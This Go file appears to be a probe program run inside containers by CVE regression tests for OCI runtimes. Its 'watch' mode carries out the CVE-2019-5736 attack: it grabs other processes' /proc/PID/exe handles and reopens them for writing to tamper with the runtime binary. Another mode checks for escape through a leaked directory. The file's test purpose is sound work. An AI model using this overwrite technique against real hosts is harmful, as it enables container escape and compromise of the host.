// Command probe runs inside the CVE tests' containers (ocitest/cve): a
// static program that reports what the container's process sees, each
// mode one line a fact, for the test on the host to read.
//
//	probe fds            the file descriptors it was started with
//	probe where          whether its working directory lies inside the
//	                     container's root (the root holds /.ocitest-root)
//	probe uname          its hostname and domainname, from uname(2)
//	probe watch FILE     CVE-2019-5736's attacker: opens /proc/PID/exe of
//	                     every other process it sees (O_PATH), and tries
//	                     to reopen each for writing, until FILE exists;
//	                     prints what it managed
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe fds|where|uname|watch FILE")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "fds":
		fds()
	case "where":
		where()
	case "uname":
		var u unix.Utsname
		if err := unix.Uname(&u); err != nil {
			fail(err)
		}
		fmt.Printf("hostname=%s\ndomainname=%s\n", unix.ByteSliceToString(u.Nodename[:]), unix.ByteSliceToString(u.Domainname[:]))
	case "watch":
		watch(os.Args[2])
	default:
		fail(fmt.Errorf("unknown mode %q", os.Args[1]))
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "probe:", err)
	os.Exit(1)
}

// fds prints "fd N TARGET" for each descriptor open at start, except the
// one it reads the directory with.
func fds() {
	// Not os.Open: it would start Go's poller, whose epoll and eventfd
	// descriptors would then be listed as if inherited.
	fd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail(err)
	}
	d := os.NewFile(uintptr(fd), "/proc/self/fd")
	own := fd
	names, err := d.Readdirnames(-1)
	if err != nil {
		fail(err)
	}
	var nums []int
	for _, n := range names {
		if i, err := strconv.Atoi(n); err == nil && i != own {
			nums = append(nums, i)
		}
	}
	sort.Ints(nums)
	for _, i := range nums {
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(i))
		fmt.Printf("fd %d %s\n", i, target)
	}
}

// where climbs with chdir("..") from the working directory the runtime
// gave it. Inside the root, that ends at the root, which holds
// /.ocitest-root; from a directory outside the root (a host directory
// leaked through an fd, CVE-2024-21626), ".." never meets the root and
// ends at the top of whatever tree the directory is in.
func where() {
	for range 256 {
		if err := unix.Chdir(".."); err != nil {
			fail(err)
		}
	}
	var here, root unix.Stat_t
	if err := unix.Stat(".", &here); err != nil {
		fail(err)
	}
	if err := unix.Stat("/", &root); err != nil {
		fail(err)
	}
	_, markErr := os.Stat(".ocitest-root")
	if here.Dev == root.Dev && here.Ino == root.Ino && markErr == nil {
		fmt.Println("INSIDE")
		return
	}
	ents, _ := os.ReadDir(".")
	var list []string
	for _, e := range ents {
		list = append(list, e.Name())
	}
	fmt.Printf("ESCAPED: .. ends at a directory that is not the root (dev %d ino %d, root dev %d ino %d), holding: %s\n",
		here.Dev, here.Ino, root.Dev, root.Ino, strings.Join(list, " "))
}

// watch is the attacker of CVE-2019-5736 in a container: every process it
// can see that is not itself, it opens /proc/PID/exe with O_PATH (the
// kernel checks ptrace access: a runtime that made itself non-dumpable
// refuses), and it keeps trying to reopen each such handle for writing
// through /proc/self/fd/N, which fails with ETXTBSY while the binary runs
// and succeeds once it has exited, unless the file cannot be written at
// all (a sealed or read-only copy).
// On success it appends a line to the file: the test's copy of the
// runtime, whose hash the test compares. It runs until stop exists, then
// prints one line per handle.
func watch(stop string) {
	self := os.Getpid()
	type handle struct {
		pid    int
		fd     int
		target string
		wrote  string
	}
	var handles []*handle
	seen, opened := map[int]bool{}, map[int]bool{}
	tried, own := 0, 0
	deadline := time.Now().Add(2 * time.Minute)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || opened[pid] {
				continue
			}
			if !seen[pid] {
				seen[pid] = true
				tried++
			}
			// Tried again at every scan while the process lives: a
			// runtime's process that is not dumpable now may exec
			// something that is, or become dumpable.
			fd, err := unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			opened[pid] = true
			target, _ := os.Readlink(filepath.Join("/proc/self/fd", strconv.Itoa(fd)))
			h := &handle{pid: pid, fd: fd, target: target}
			// A binary of the container's own root (busybox) is no
			// hole: it is left alone, and counted apart.
			var a, b unix.Stat_t
			if unix.Fstat(fd, &a) == nil && unix.Stat(target, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino {
				h.wrote = "the container's own file"
				own++
			}
			handles = append(handles, h)
		}
		for _, h := range handles {
			if h.wrote != "" {
				continue
			}
			// O_APPEND: the proof is a changed hash, and the binary
			// (a copy the test made) still runs afterwards.
			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(h.fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
			if err == nil {
				_, werr := unix.Write(w, []byte("\nocitest CVE-2019-5736 was here\n"))
				unix.Close(w)
				h.wrote = fmt.Sprintf("opened for writing, appended (write error %v)", werr)
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("processes seen %d, exe handles %d, of the container's own files %d\n", tried, len(handles), own)
	for _, h := range handles {
		state := "never writable"
		if h.wrote != "" {
			state = h.wrote
		}
		fmt.Printf("handle pid %d exe %s: %s\n", h.pid, h.target, state)
	}
}
